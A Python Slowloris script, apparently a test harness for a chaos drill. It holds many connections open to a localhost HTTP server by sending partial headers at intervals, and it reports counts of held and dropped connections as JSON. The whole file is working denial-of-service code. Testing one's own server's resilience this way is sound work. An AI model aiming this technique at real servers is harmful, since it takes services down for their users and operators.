"""Slowloris for the chaos drill: PORT COUNT INTERVAL CONNECT_WAIT. Opens COUNT connections to
127.0.0.1:PORT, sends each the start of a request head, then one more header line every
INTERVAL seconds, never the blank line that ends it. A connection the server closes is opened
again at the next tick (the attacker keeps the count up); a connect that has not completed
after CONNECT_WAIT seconds counts as failed. Prints one JSON line once the first COUNT
connections are open (or failed), and another with the totals when stdin closes."""
import errno
import json
import os
import resource
import selectors
import socket
import sys
import time


def main():
    port, count = int(sys.argv[1]), int(sys.argv[2])
    interval, connect_wait = float(sys.argv[3]), float(sys.argv[4])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sel = selectors.DefaultSelector()
    sel.register(sys.stdin, selectors.EVENT_READ, "stdin")
    totals = {"opened": 0, "connect_failed": 0, "closed_by_server": 0}
    pending = {}   # socket -> connect deadline
    held = set()

    def open_one():
        s = socket.socket()
        s.setblocking(False)
        err = s.connect_ex(("127.0.0.1", port))
        if err not in (0, errno.EINPROGRESS):
            totals["connect_failed"] += 1
            s.close()
            return
        totals["opened"] += 1
        pending[s] = time.monotonic() + connect_wait
        sel.register(s, selectors.EVENT_WRITE, "conn")

    def drop(s, why):
        sel.unregister(s)
        pending.pop(s, None)
        held.discard(s)
        s.close()
        totals[why] += 1

    def poll(timeout):
        """Handles what happened; False once stdin closed."""
        for key, _ in sel.select(timeout):
            s = key.fileobj
            if key.data == "stdin":
                return False
            if s in pending:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    drop(s, "connect_failed")
                    continue
                del pending[s]
                try:
                    s.send(b"GET / HTTP/1.1\r\nHost: slowloris\r\n")
                except OSError:
                    drop(s, "closed_by_server")
                    continue
                held.add(s)
                sel.modify(s, selectors.EVENT_READ, "conn")
            else:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    drop(s, "closed_by_server")
        now = time.monotonic()
        for s, deadline in list(pending.items()):
            if now > deadline:
                drop(s, "connect_failed")
        return True

    start = time.monotonic()
    for _ in range(count):
        open_one()
    while pending and time.monotonic() - start < connect_wait + 1:
        if not poll(0.1):
            break
    print(json.dumps({"held": len(held), "seconds": round(time.monotonic() - start, 2),
                      **totals}), flush=True)
    running = True
    next_tick = time.monotonic() + interval
    while running:
        running = poll(max(0.0, next_tick - time.monotonic()))
        if time.monotonic() >= next_tick:
            next_tick += interval
            for s in list(held):
                try:
                    s.send(b"X-Slow: 1\r\n")
                except OSError:
                    drop(s, "closed_by_server")
            for _ in range(count - len(held) - len(pending)):
                open_one()
    totals["held"] = len(held)
    for s in list(held) + list(pending):
        s.close()
    print(json.dumps(totals), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
